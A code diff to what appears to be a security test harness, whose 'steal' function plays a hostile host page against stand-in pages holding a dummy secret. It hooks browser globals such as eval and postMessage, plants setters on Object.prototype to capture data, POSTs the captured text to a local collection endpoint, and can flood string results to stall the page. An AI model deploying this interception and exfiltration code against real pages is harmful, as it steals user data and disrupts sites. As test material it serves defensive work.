@@ -20,7 +20,7 @@ export interface Thief extends AsyncDisposable {
 function steal(flood: boolean): void {
   const apply = Reflect.apply
   const source = Function.prototype.toString
-  const { from, isArray } = Array
+  const { isArray } = Array
   const { ownKeys, getOwnPropertyDescriptor: describe } = Reflect
   const define = Object.defineProperty
   const write = JSON.stringify
@@ -31,7 +31,9 @@ function steal(flood: boolean): void {
   const add = Set.prototype.add
   const known = Set.prototype.has
   const texts: string[] = []
-  let busy = false
+  const { repeat } = String.prototype
+  // Its own calls are not recorded.
+  let busy = true
   let left = 0
 
   const record = (value: unknown, depth = 0): void => {
@@ -73,7 +75,7 @@ function steal(flood: boolean): void {
       if (!busy) listen(this, given)
       if (new.target) return Reflect.construct(original, given, new.target)
       const result = apply(original, this, given)
-      return flood && !busy && typeof result === 'string' ? '\u0001'.repeat(3e7) : result
+      return flood && !busy && typeof result === 'string' ? apply(repeat, '\u0001', [3e7]) : result
     }
     try {
       for (const own of ownKeys(original)) {
@@ -95,10 +97,10 @@ function steal(flood: boolean): void {
   for (const key of ['eval', 'Function', 'setTimeout', 'queueMicrotask', 'atob', 'TextDecoder', 'postMessage']) {
     hook(window, key)
   }
-  const secret = '0'.repeat(64)
+  const secret = apply(repeat, '0', [64])
   const ok = write({ result: 'ok' })
   const answers: Record<string, (...given: unknown[]) => unknown> = {
-    pad: (length) => write({ secret, id: 1, numbers: '0000'.repeat(Number(length)) }),
+    pad: (length) => write({ secret, id: 1, numbers: apply(repeat, '0000', [length]) }),
     find: () =>
       write({ doc: 'd0', secret, origin: location.origin, loading: false, omitted: 0, roots: 0, widgets: [] }),
   }
@@ -117,9 +119,12 @@ function steal(flood: boolean): void {
 
   let sent = 0
   later(() => {
-    const news = from(texts.slice(sent))
-    sent = texts.length
-    void request('/heard', { method: 'POST', body: write(news) }).catch(() => undefined)
+    busy = true
+    const news: string[] = []
+    for (; sent < texts.length; sent++) news[news.length] = texts[sent] as string
+    const body = write(news)
+    void request('/heard', { method: 'POST', body }).catch(() => undefined)
+    busy = false
   }, 20)
 
   // Last: every property descriptor that is made after this inherits these.
@@ -135,6 +140,7 @@ function steal(flood: boolean): void {
     }
     define(Object.prototype, key, setter as object)
   }
+  busy = false
 }
 
 /** Starts its server: `http://localhost:<port>`, another origin than that of every stand-in's page. */
